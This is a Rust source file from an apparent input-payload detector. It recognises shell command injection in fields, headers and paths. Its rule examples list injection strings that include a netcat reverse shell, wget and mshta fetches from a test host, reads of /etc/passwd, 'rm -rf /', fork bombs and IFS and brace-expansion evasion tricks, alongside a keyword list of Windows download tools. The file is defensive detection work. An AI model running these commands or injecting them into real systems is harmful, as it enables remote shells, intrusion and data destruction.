//! Command lines for a Unix shell or for Windows.

mod expand;
mod names;
mod pieced;
mod start;
mod unquote;

use self::expand::{assembled, bombs, expands_to_command, globs, is_piped_command};
use self::names::{Command, certain_or_known, command};
use self::pieced::is_pieced_command;
use self::start::start;
use self::unquote::{has_space, unquote};
use super::{Input, Report, cut, find};
use crate::payload::category::{Category, Severity};
use crate::payload::field::Carrier;
use crate::payload::gate::MAX_LINE_VALUE;
use crate::payload::rules::{Carriers, Rule};
use crate::payload::squeeze::{Bytes, is_word};

static COMMAND: Rule = Rule::recognised(
    "rce-command",
    Category::Rce,
    Severity::Critical,
    &[
        ";id",
        "| cat /etc/x",
        "&& whoami",
        "$(id)",
        "x`id`",
        "; c'a't /x",
        "|| ping -c 10 127.0.0.1",
        "127.0.0.1; ls -la",
        "a|/bin/ls -al",
        "x;{cat,/x}",
        "1;cat${IFS}/x",
        "& dir c:\\",
        "a & ipconfig /all",
        "`echo id`",
        "; find / -name x",
        ";cat+/etc$u/hosts",
        "; iptables -L",
        "| ss -tlnp",
        "a=c;b=at;$a$b /x",
        "; exec id",
        "; dd if=/dev/zero of=/x",
        ";who$()ami",
        "|w``hoami",
        "/e?c/pa*wd",
        "; /b?n/c?t x",
        ":(){ :|:& };:",
        "f() { f|f& };f",
        "{id,}",
        "{l,-lh}s",
        "c{a,un}t",
        "<(cmd)",
        ";.shell nc",
        "a;c$?at+/et$_c/x",
        "a; sh$XX -c x",
        "/usr/bin/[u]name -a",
        "; python3.10 x.py",
        ";cd /;cd etc",
        ";. rm -rf /",
    ],
    &[
        "salt; more pepper",
        "R&D; find us",
        "name|id|type",
        "cats & dogs",
        "this & that; sort of",
        "a; who knows",
        "1; 2; 3",
        "id;name",
        "use `ls` to list",
        "kill; date; time",
        "| id | name |\n|  1 | apple |",
        "Error\n    at createError (app.js:1:2)",
        "Traceback:\n  File \"app.py\", line 10",
        "text &amp; more<br>",
        "/* a comment */",
        "/api/*/items/*",
        "/a?b/c?d",
        "*/5 * * * *",
        "$a=1;$a++",
        "a=1;b=2;$c",
        "x; exec summary",
        "ss; service",
        "f() { return f | g }",
        "{date,time}",
        "a{2,}",
        "{1,}",
        "{first,last}_name",
        "<(a b)",
        "(<x)",
    ],
);
static START: Rule = Rule::recognised(
    "rce-command-line",
    Category::Rce,
    Severity::Critical,
    &[
        "cat /etc/hosts",
        "nc -lvvp 4444 -e /bin/sh",
        "wget http://x.test/a",
        "/bin/cat x",
        "ping -c 3 127.0.0.1",
        "powershell -enc aaaa",
        "cmd /c dir",
        "bash -i",
        "/bin/ca? /etc/pass?d",
        "who$()ami",
        "{ls,-la}",
        "/b${x}in/cat /x",
        "${PATH:0:1}bin${PATH:0:1}ls",
        "mshta http://x.test/a.hta",
        "alias ls-al='ls -al'",
        "cd /;ls",
        "find /etc -name x",
        "ping`` 127.0.0.1",
    ],
    &[
        "cat food",
        "ping me",
        "wget is a tool",
        "find /a good/ place",
        "python 3",
        "cat -- the animal",
        "{ls, other}",
        "curl up",
        "alias a for b",
        "cd player",
        "find / in a path",
    ],
)
.only(Carriers::NO_HEADERS);
static QUOTED: Rule = Rule::recognised(
    "rce-command-in-text",
    Category::Rce,
    Severity::Medium,
    &["use `cat /x` there"],
    &["use `x` there", "the `date` field"],
);

/// The rules of this recogniser.
pub(super) static RULES: &[&Rule] = &[&COMMAND, &START, &QUOTED];

/// Whether a word in lower case is a command and hardly a word of a sentence.
pub(in crate::payload) fn is_command(word: &[u8]) -> bool {
    command(word) == Command::Certain
        || matches!(
            word,
            b"cat"
                | b"head"
                | b"tail"
                | b"od"
                | b"cut"
                | b"rev"
                | b"tee"
                | b"vi"
                | b"vim"
                | b"nano"
        )
}

/// Judges `input` as a command line.
pub(super) fn judge(input: &Input<'_>, plain: &mut Vec<u8>, report: &mut Report<'_>) {
    let breaks = input.bytes.any(Bytes::LINE) && input.view.len() <= MAX_LINE_VALUE;
    let separated = input.bytes.any(
        Bytes::PIPE
            .or(Bytes::SEMICOLON)
            .or(Bytes::BACKTICK)
            .or(Bytes::AMPERSAND)
            .or(Bytes::DOLLAR)
            .or(Bytes::BACKSLASH),
    );
    let wraps = input.bytes.any(Bytes::BRACE.or(Bytes::ANGLE));
    let argued = input.bytes.any(
        Bytes::SLASH
            .or(Bytes::DASH)
            .or(Bytes::BACKSLASH)
            .or(Bytes::QUOTE)
            .or(Bytes::DOLLAR)
            .or(Bytes::BACKTICK),
    );
    let argued = argued || input.bytes.any(Bytes::EQUALS) && input.squeezed.starts_with(b"alias ");
    let header = matches!(input.field.carrier, Carrier::Header | Carrier::PartHeader);
    if header && !separated {
        return;
    }
    if !(breaks || separated || argued || wraps) {
        return;
    }
    unquote(input.view, plain);
    let text = plain.as_slice();
    let braced = input.bytes.any(Bytes::BRACE);
    if braced && bombs(text) || is_piped_command(text) {
        report(&COMMAND, cut(text, 0, 64));
    }
    if braced && !header {
        let last = text.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let line = if input.field.carrier == Carrier::Path {
            last
        } else {
            text
        };
        if expands_to_command(line) {
            report(&COMMAND, cut(line, 0, 64));
        }
    }
    if !header && input.field.carrier != Carrier::Path {
        globs(text, report);
        if input.bytes.any(Bytes::DOLLAR) && input.bytes.any(Bytes::EQUALS) {
            assembled(input.squeezed, report);
        }
    }
    if !header && input.field.carrier != Carrier::Path && is_pieced_command(input.view) {
        report(&START, cut(text, 0, 64));
    }
    // A plus sign in a value that was decoded is no blank: `cat+/x` alone is the name of something.
    let plain = has_space(input.view) || !input.view.contains(&b'+');
    if argued && (plain || text.first() == Some(&b'/')) && !is_capitalised(input.view) {
        start(
            text,
            matches!(input.view.first(), Some(b'\'' | b'"'))
                || input.bytes.any(Bytes::DOLLAR) && find(input.view, b"$()").is_some()
                || input.bytes.any(Bytes::BACKTICK) && find(input.view, b"``").is_some(),
            report,
        );
    }
    if !(breaks || separated) {
        return;
    }
    let signs = text.iter().enumerate();
    for (at, &byte) in signs.filter(|(_, byte)| may_separate(**byte)) {
        let next = text.get(at + 1).copied().unwrap_or(0);
        let skip = match (byte, next) {
            (b'|' | b'&', second) if second == byte => 2,
            (b';' | b'|' | b'&' | b'`', _) => 1,
            (b'$' | b'<' | b'>', b'(') => 2,
            (b'\n', _) if breaks => 1,
            _ => continue,
        };
        // Headers are lists with semicolons.
        if byte == b';' && next == b' ' && header && at > 0 {
            continue;
        }
        let previous = at.checked_sub(1).and_then(|i| text.get(i)).copied();
        if skip == 1 && previous == Some(byte) {
            continue;
        }
        separator(text, at, skip, report);
    }
}

/// Whether a text begins as sentences do, and not with a command of Windows, where letter case is nothing: `Ls -la shows it`.
fn is_capitalised(view: &[u8]) -> bool {
    let is_sentence = matches!(view, [first, second, ..] if first.is_ascii_uppercase() && second.is_ascii_lowercase());
    is_sentence && {
        let word = view
            .split(|byte| !is_word(*byte))
            .next()
            .unwrap_or_default();
        let on_windows: [&[u8]; 14] = [
            b"dir",
            b"type",
            b"net",
            b"cmd",
            b"powershell",
            b"ping",
            b"ipconfig",
            b"certutil",
            b"bitsadmin",
            b"mshta",
            b"rundll32",
            b"regsvr32",
            b"wmic",
            b"curl",
        ];
        !on_windows
            .iter()
            .any(|name| word.eq_ignore_ascii_case(name))
    }
}

/// Whether a byte may part two commands, or begin one within another.
fn may_separate(byte: u8) -> bool {
    SEPARATORS
        .get(usize::from(byte))
        .copied()
        .unwrap_or_default()
}

// The loop ends where the table does.
#[allow(clippy::indexing_slicing)]
static SEPARATORS: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = matches!(
            byte as u8,
            b';' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>' | b'\n'
        );
        byte += 1;
    }
    table
};

/// How much of a line is looked at after a separator, and before it.
const MAX_COMMAND: usize = 256;
const MAX_BEFORE: usize = 64;

/// The word at the start of `text` without the directory it is in, and what follows it.
fn word(text: &[u8]) -> (&[u8], &[u8], bool) {
    let skip = text
        .iter()
        .take_while(|b| matches!(b, b' ' | b'{' | b'(' | b'\n' | b'!' | b'@' | b'<' | b'+'))
        .count();
    let text = text.get(skip..).unwrap_or_default();
    // `. file` reads a file as commands.
    let text = text.strip_prefix(b". ").unwrap_or(text);
    let len = text
        .iter()
        .take(64)
        .take_while(|b| is_word(**b) || matches!(b, b'/' | b'.' | b'-' | b'?' | b'*' | b'[' | b']'))
        .count();
    let token = text.get(..len).unwrap_or_default();
    let rest = text.get(len..).unwrap_or_default();
    let base = token.rsplit(|&b| b == b'/').next().unwrap_or_default();
    let rooted = [
        b"/bin/".as_slice(),
        b"/usr/",
        b"/sbin/",
        b"/tmp/",
        b"/???/",
        b"/etc/init.d/",
    ]
    .iter()
    .any(|dir| token.starts_with(dir))
        && token.len() > base.len();
    (base, rest, rooted)
}

/// Whether `rest` is what an argument looks like, or the end of the command.
fn has_argument(rest: &[u8]) -> bool {
    let body = rest.trim_ascii_start();
    // `"; touch test #`: what follows is none of the shell's business.
    if body.trim_ascii_end().ends_with(b" #") {
        return true;
    }
    let spaced = body.len() < rest.len();
    match body {
        [] => true,
        [b'-', next, ..] => {
            spaced && (next.is_ascii_alphanumeric() || *next == b'-') && !body.starts_with(b"-- ")
        }
        [b'/', b' ', b'-', ..] => spaced,
        [b'/', next, ..] => spaced && *next != b' ',
        [b'$' | b'%' | b'~' | b'*', ..] => spaced,
        [
            b';' | b'|' | b'&' | b'`' | b'>' | b'<' | b'#' | b'\n' | b'}',
            ..,
        ] => !spaced || body.len() <= 2 || body.first() != Some(&b'|'),
        [b'.', b'.' | b'/', ..] => spaced,
        [b'0'..=b'9', ..] => spaced,
        [b'a'..=b'z', b':', b'\\' | b'/', ..] => spaced,
        [b',', next, ..] => next.is_ascii_alphanumeric() || *next == b'/',
        _ => {
            find(body.get(..64).unwrap_or(body), b"://").is_some()
                || spaced && {
                    let len = body.iter().take_while(|b| is_word(**b)).count();
                    matches!(body.get(len), Some(b'.' | b'/' | b'\\'))
                        && body.get(len + 1).is_some_and(|b| is_word(*b))
                }
        }
    }
}

/// Whether `rest` is an argument that only this command has: `exec id`, `dd if=/x`, `ip addr`.
fn takes(name: &[u8], rest: &[u8]) -> bool {
    let body = rest.trim_ascii();
    match name {
        b"exec" | b"env" => {
            let word = body.split(|b| !is_word(*b)).next().unwrap_or_default();
            word.len() > 1 && command(word) != Command::None && rest.first() == Some(&b' ')
        }
        b"alias" => assigns(body),
        b"cd" => matches!(body, [b'/' | b'~' | b'.', ..]),
        b"dd" => body.starts_with(b"if=") || body.starts_with(b"of="),
        b"find" => body.starts_with(b". -") || body.starts_with(b"/ -"),
        b"ip" => matches!(
            body,
            b"a" | b"addr" | b"address" | b"r" | b"route" | b"link" | b"n" | b"neigh"
        ),
        _ => false,
    }
}

/// `x=y`: what is behind `alias`.
fn assigns(body: &[u8]) -> bool {
    let named = |byte: &&u8| is_word(**byte) || matches!(byte, b'-' | b'.' | b':');
    let name = body.iter().take_while(named).count();
    name > 0 && matches!(body.get(name..), Some([b'=', next, ..]) if *next != b' ' && *next != b'=')
}

/// A command after a separator.
fn separator(text: &[u8], at: usize, skip: usize, report: &mut Report<'_>) {
    // A command and its neighbourhood: each separator must cost the same, however many there are.
    let tail = cut(text, at + skip, MAX_COMMAND);
    let (name, rest, rooted) = word(tail);
    let kind = command(name);
    if kind == Command::None && !rooted {
        return;
    }
    // `data:image/png;base64,...`
    if rest.first() == Some(&b',') && name == b"base64" {
        return;
    }
    let mark = text.get(at).copied().unwrap_or(0);
    let evidence = cut(text, at, 64);
    if rooted && (kind != Command::None || name.contains(&b'?')) {
        report(&COMMAND, evidence);
        return;
    }
    let substitution = matches!(mark, b'$' | b'`' | b'<' | b'>');
    match kind {
        Command::None => {}
        _ if substitution => {
            let closed = rest
                .iter()
                .take(256)
                .any(|&b| b == if mark == b'`' { b'`' } else { b')' });
            let prints =
                matches!(name, b"echo" | b"printf" | b"expr") && rest.first() == Some(&b' ');
            if !closed
                || !(has_argument(rest)
                    || kind == Command::Certain
                    || prints
                    || rest.first() == Some(&b')'))
            {
                return;
            }
            // Text that shows commands puts them between back-quotes, after a space.
            let shown = mark == b'`'
                && at
                    .checked_sub(1)
                    .and_then(|i| text.get(i))
                    .is_some_and(|b| matches!(b, b' ' | b'\n'));
            if !shown {
                report(&COMMAND, evidence);
            } else if rest.first() == Some(&b' ') {
                report(&QUOTED, evidence);
            }
        }
        Command::Certain | Command::Plausible => {
            if rest.first().is_some_and(|b| is_word(*b)) {
                return;
            }
            let from = at.saturating_sub(MAX_BEFORE);
            let head = text.get(from..at).unwrap_or_default().trim_ascii_end();
            // A list of names: `id|name`, `pwd;env`.
            let trimmed = rest.trim_ascii();
            if trimmed.first() == Some(&b'=') {
                return;
            }
            let bare = trimmed.is_empty() || matches!(trimmed.first(), Some(b';' | b'|' | b'&'));
            if head.is_empty() && !bare && (certain_or_known(name) || has_argument(rest)) {
                report(&COMMAND, evidence);
                return;
            }
            let spaced = tail.first() == Some(&b' ');
            if is_layout(text, at, kind, rest) {
                return;
            }
            let glued =
                head.last().is_some_and(|b| b.is_ascii_alphabetic()) && !spaced && mark != b'\n';
            let certain = kind == Command::Certain;
            let separators_follow = matches!(
                rest.trim_ascii(),
                [b';' | b'|' | b'&' | b'`'] | [b';' | b'|' | b'&', b';' | b'|' | b'&']
            );
            if bare && glued && !separators_follow && !(certain && name.len() > 4) {
                return;
            }
            let words = head.iter().filter(|b| b.is_ascii_alphabetic()).count() > 2;
            let prose = mark == b'\n' || mark == b'&' || spaced && words && name != b"id";
            let found = if bare {
                !(prose && !certain && !separators_follow) || head.len() < 3
            } else if certain {
                has_argument(rest)
                    || rest.first() != Some(&b' ')
                    // A shell within the client of a database.
                    || matches!(name, b".shell" | b".system")
                    || name.contains(&b'-') && !head.contains(&b' ')
            } else {
                takes(name, rest)
                    || has_argument(rest)
                        && !(spaced
                            && mark == b'&'
                            && rest
                                .trim_ascii_start()
                                .first()
                                .is_some_and(u8::is_ascii_digit)
                            && head.contains(&b' '))
            };
            if found {
                report(&COMMAND, evidence);
            }
        }
    }
}

/// Whether the separator is part of how a text is laid out: an indented line of a trace, a cell of a table, the end of an
/// entity of HTML.
fn is_layout(text: &[u8], at: usize, kind: Command, rest: &[u8]) -> bool {
    let spaced = text.get(at + 1) == Some(&b' ');
    match text.get(at) {
        Some(b'\n') => spaced && kind != Command::Certain,
        Some(b'&') => spaced && matches!(rest, [b'<', next, ..] if next.is_ascii_alphabetic()),
        Some(b'|') => {
            let cells = text.iter().filter(|byte| **byte == b'|').take(4).count();
            // A row of a table, with blanks around its cells or without.
            spaced && cells > 3 && rest.trim_ascii_start().starts_with(b"| ")
                || at == 0 && cells > 2 && rest.starts_with(b"|") && kind != Command::Certain
        }
        Some(b';') => {
            let before = text.get(at.saturating_sub(8)..at).unwrap_or_default();
            let name = before
                .iter()
                .rev()
                .take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'#')
                .count();
            name > 1 && before.len() > name && before.get(before.len() - name - 1) == Some(&b'&')
        }
        _ => false,
    }
}
